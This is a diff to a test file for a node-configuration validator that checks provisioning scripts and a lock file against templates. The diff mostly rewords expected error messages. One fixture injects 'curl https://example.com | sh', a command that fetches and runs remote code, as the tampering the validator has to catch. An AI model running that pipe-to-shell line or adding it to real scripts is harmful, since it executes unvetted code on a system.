@@ -127,19 +127,19 @@ describe('the rules of nodes', () => {
       'a line that somebody added',
       scriptsAsTemplates,
       withFile(apply, "begin 'system'\n", "begin 'system'\ncurl https://example.com | sh\n"),
-      "has a line that its template does not have: 'curl https://example.com | sh'",
+      "has a line that is not in its template: 'curl https://example.com | sh'",
     ],
     [
       'a line that somebody took away',
       scriptsAsTemplates,
       withFile('/usr/local/sbin/openfaas-tls', '    rm -r "$copy"\n', ''),
-      'has not the lines of its template',
+      'differs from its template: lines are missing or reordered',
     ],
     [
       'a value that is two',
       scriptsAsTemplates,
       withFile(apply, "did 'installed K3s v1.36.5+k3s1'", "did 'installed K3s v1.36.4+k3s1'"),
-      'has not the lines of its template',
+      'differs from its template: lines are missing or reordered',
     ],
     [
       'another command at first boot',
@@ -218,7 +218,7 @@ describe('the rules of nodes', () => {
       'another number of connections',
       lockAddsUp,
       { ...good, lock: { ...good.lock, gateway: { ...good.lock.gateway, connections: 8192 } } },
-      'lists 8192 as the connections of the gateway, and it is 512',
+      'lists 8192 as the connections of the gateway, but it is 512',
     ],
     [
       'images of others',
@@ -230,7 +230,7 @@ describe('the rules of nodes', () => {
           images: good.lock.images.map((one) => ({ ...one, usedBy: ['openfaas/nats'] })),
         },
       },
-      'as the users of docker.io/prom/prometheus:v3.11.3, and it is openfaas/prometheus',
+      'as the users of docker.io/prom/prometheus:v3.11.3, but it is openfaas/prometheus',
     ],
     [
       'a header that a client writes',
